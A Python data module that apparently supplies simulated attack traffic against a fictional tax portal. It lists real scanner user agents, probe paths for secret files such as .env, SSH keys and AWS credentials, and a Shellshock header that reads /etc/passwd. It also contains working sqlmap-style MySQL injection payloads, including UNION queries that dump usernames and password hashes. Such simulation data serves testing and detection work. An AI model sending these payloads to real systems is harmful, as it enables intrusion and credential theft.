"""Attack material: what scanners probe and what sqlmap sends.

Paths are those real scanners (Nikto, gobuster wordlists) try on any web
server; payloads follow sqlmap's boundaries and techniques (boolean-based
blind, error-based, time-based blind, UNION query), for MySQL as the portal's
traffic endpoint turns out to be injectable.
"""

from __future__ import annotations

from typing import Final


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


NIKTO: Final = "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{test:06d})"
SQLMAP: Final = "sqlmap/1.8.11#stable (https://sqlmap.org)"
GOBUSTER: Final = "gobuster/3.6"
SHELLSHOCK: Final = '() { :; }; echo; echo; /bin/bash -c "cat /etc/passwd"'

SCAN_PATHS: Final = _words(
    """
    / /robots.txt /.env /.env.local /.env.production /.env.backup /.git/config /.git/HEAD
    /.git/index /.svn/entries /.hg/hgrc /.DS_Store /.htaccess /.htpasswd /.aws/credentials
    /.ssh/id_rsa /.vscode/sftp.json /.well-known/security.txt /wp-login.php /wp-admin/
    /wp-admin/install.php /wp-content/debug.log /wp-config.php.bak /xmlrpc.php /phpmyadmin/
    /phpMyAdmin/ /pma/ /myadmin/ /mysql/ /adminer.php /admin /admin/ /administrator/ /admin.php
    /admin/login /login.php /user/login /manager/html /host-manager/html /console /jmx-console/
    /actuator /actuator/env /actuator/health /actuator/heapdump /api/swagger.json
    /swagger-ui.html /v2/api-docs /openapi.json /graphql /graphiql /backup.zip /backup.tar.gz
    /backup.sql /db.sql /dump.sql /database.sql /site.zip /portal.zip /www.zip /aldmere.zip
    /config.php.bak /config.yml /config.json /settings.py /web.config /server-status
    /server-info /nginx_status /cgi-bin/test.cgi /cgi-bin/printenv /cgi-bin/php-cgi /shell.php
    /cmd.php /c99.php /r57.php /phpinfo.php /info.php /test.php
    /vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php /solr/admin/info/system /jenkins/login
    /owa/ /remote/login /global-protect/login.esp /vpn/index.html
    /dana-na/auth/url_default/welcome.cgi /elmah.axd /trace.axd /telescope/requests
    /_profiler/phpinfo /debug/default/view /docker-compose.yml /Dockerfile /composer.json
    /package.json /crossdomain.xml /clientaccesspolicy.xml /sitemap.xml
    /index.php?page=../../../../etc/passwd /static/..%2f..%2f..%2f..%2fetc%2fpasswd
    /?<script>alert(1)</script> /"><script>alert(document.domain)</script>
    /search?q=%3Cscript%3Ealert(1)%3C/script%3E /index.php?id=1%27 /cgi-bin/status /HNAP1/
    /boaform/admin/formLogin /.git/logs/HEAD
    """
)
SCAN_EXTENSIONS: Final = (".html", ".php", ".asp", ".aspx", ".jsp", ".cfm", ".pl")
WORDLIST: Final = _words(
    """
    admin backup backups config api test dev old new tmp temp uploads upload files private db
    sql logs log data assets cms staging beta demo internal intranet secret hidden console
    dashboard panel cpanel webmail mail portal api/v2 api/internal export import reports report
    download downloads archive archives install setup server status health metrics debug git svn
    include includes lib src scripts cgi-bin bin home user users account accounts auth oauth sso
    saml login signin register password reset tax taxes
    """
)

# sqlmap payloads for a numeric parameter; "{v}" is the original value, "{r}" a random number.
# sqlmap payloads for a numeric parameter, with how the portal answers: an error page, the
# page as for a true or a false condition, or the page after a five-second sleep.
# "{v}" is the original value, "{r}" and "{r2}" random numbers.
SQLI_PROBES: Final = (
    ("{v}'", "err"),
    ("{v}\"", "err"),
    ("{v})'\"(.(,(", "err"),
    ("{v} AND {r}={r}", "true"),
    ("{v} AND {r}={r2}", "false"),
    ("{v}) AND {r}={r} AND ({r2}={r2}", "err"),
    ("{v}' AND {r}={r} AND 'qVzR'='qVzR", "err"),
    ("{v} AND 1=1", "true"),
    ("{v} AND 1=2", "false"),
    ("{v}' OR 1=1-- -", "err"),
    ("{v} OR 1=1-- -", "true"),
    ("{v}' OR '1'='1", "err"),
    ("{v} AND EXTRACTVALUE({r},CONCAT(0x5c,0x7176787a71,(SELECT (ELT({r}={r},1))),"
     "0x716a627171))", "err"),
    ("{v} AND (SELECT {r} FROM(SELECT COUNT(*),CONCAT(0x7176787a71,(SELECT (ELT({r}={r},1))),"
     "0x716a627171,FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.PLUGINS GROUP BY x)a)", "err"),
    ("{v} AND (SELECT {r} FROM (SELECT(SLEEP(5)))qVzR)", "sleep"),
    ("{v}' AND (SELECT {r} FROM (SELECT(SLEEP(5)))qVzR)-- bXyZ", "err"),
    ("{v} AND SLEEP(5)", "sleep"),
    ("{v};SELECT PG_SLEEP(5)--", "err"),
    ("{v} WAITFOR DELAY '0:0:5'--", "err"),
    ("{v} AND 5861=BENCHMARK(5000000,MD5(0x6b6f5a73))", "sleep"),
)  # fmt: skip
SQLI_COLUMNS: Final = 7  # the incidents query selects seven columns
SQLI_DUMP: Final = (
    "{v} UNION ALL SELECT NULL,NULL,CONCAT(0x7176787a71,IFNULL(CAST(schema_name AS NCHAR),0x20),"
    "0x716a627171),NULL,NULL,NULL,NULL FROM INFORMATION_SCHEMA.SCHEMATA LIMIT {n},1-- -",
    "{v} UNION ALL SELECT NULL,NULL,CONCAT(0x7176787a71,IFNULL(CAST(table_name AS NCHAR),0x20),"
    "0x716a627171),NULL,NULL,NULL,NULL FROM INFORMATION_SCHEMA.TABLES WHERE table_schema IN "
    "(0x706f7274616c) LIMIT {n},1-- -",
    "{v} UNION ALL SELECT NULL,NULL,CONCAT(0x7176787a71,IFNULL(CAST(username AS NCHAR),0x20),"
    "0x6b7a6e6f71,IFNULL(CAST(password_hash AS NCHAR),0x20),0x716a627171),NULL,NULL,NULL,NULL "
    "FROM portal.users ORDER BY id LIMIT {n},1-- -",
)
# sqlmap against the decimal ``amount`` of the tax form: the portal validates it, so all fail.
SQLI_AMOUNT: Final = (
    "{v}'",
    "{v} AND 1=1",
    "{v} AND 1=2",
    "{v}' OR '1'='1",
    "{v}' OR 1=1-- -",
    "{v}) AND 4411=4411 AND (7302=7302",
    "{v} AND SLEEP(5)",
    "{v}' AND SLEEP(5) AND 'tYxW'='tYxW",
    "{v} UNION ALL SELECT NULL-- -",
    "{v} UNION ALL SELECT NULL,NULL-- -",
    "{v} UNION ALL SELECT NULL,NULL,NULL-- -",
    "{v}) UNION ALL SELECT NULL,NULL,NULL,NULL-- -",
    "{v} ORDER BY 1-- -",
    "{v} ORDER BY 10-- -",
    "-{r} OR 8114=8114",
    "{v} RLIKE (SELECT (CASE WHEN ({r}={r}) THEN 0x31 ELSE 0x28 END))",
)
